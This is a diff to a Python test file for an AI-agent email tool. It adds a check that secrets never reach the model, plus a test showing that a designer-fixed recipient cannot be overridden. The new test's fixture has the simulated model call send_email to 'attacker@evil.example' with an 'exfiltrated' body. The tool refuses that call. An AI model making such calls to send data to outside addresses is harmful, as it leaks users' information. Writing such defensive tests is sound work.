@@ -102,6 +102,8 @@ async def test_parallel_tool_calls_send_real_mail_with_ai_and_designer_values(ll
     dump = rec.dump()
     assert API_KEY not in dump and SMTP_PASSWORD not in dump
     assert API_KEY not in flow.dumps() and SMTP_PASSWORD not in flow.dumps()
+    sent = json.dumps([r["body"] for r in llm.requests])  # what the LLM received
+    assert API_KEY not in sent and SMTP_PASSWORD not in sent
     for kind in ("llm.request", "llm.response", "tool.call", "tool.result"):
         assert rec.of(kind)
 
@@ -160,3 +162,24 @@ async def test_bad_json_arguments_from_the_model_are_refused(llm, smtp):
     # The model's own text for the bad call goes back to it unchanged.
     assistant = next(m for m in llm.requests[1]["body"]["messages"] if m["role"] == "assistant")
     assert assistant["tool_calls"][0]["function"]["arguments"] == '{"to": "a@example.com", '
+
+
+async def test_a_fixed_recipient_cannot_be_changed_by_the_model(llm, smtp):
+    tool = mail_tool(smtp)
+    tool["params"]["to"] = fixed("ops@example.com")  # the designer toggled `to` from ai to custom
+    llm.replies = [
+        openai_reply(tool_calls=[("send_email", {"to": "attacker@evil.example", "subject": "s",
+                                                 "body": "exfiltrated"})]),
+        openai_reply(tool_calls=[("send_email", {"subject": "Status", "body": "All good"})]),
+        openai_reply("sent"),
+    ]
+    flow = agent_flow(openai_agent(llm), [tool])
+    result, rec, _ = await run(flow)
+    assert result.status == "ok", rec.of("node.error")
+    schema = llm.requests[0]["body"]["tools"][0]["function"]["parameters"]
+    assert set(schema["properties"]) == {"subject", "body"}
+    assert [r.status for r in rec.of("tool.result")] == ["refused", "success"]
+    assert "unknown argument 'to'" in rec.of("tool.result")[0].error
+    [got] = smtp.received
+    assert got["rcpt_tos"] == ["ops@example.com"]
+    assert got["message"]["Subject"] == "Status"
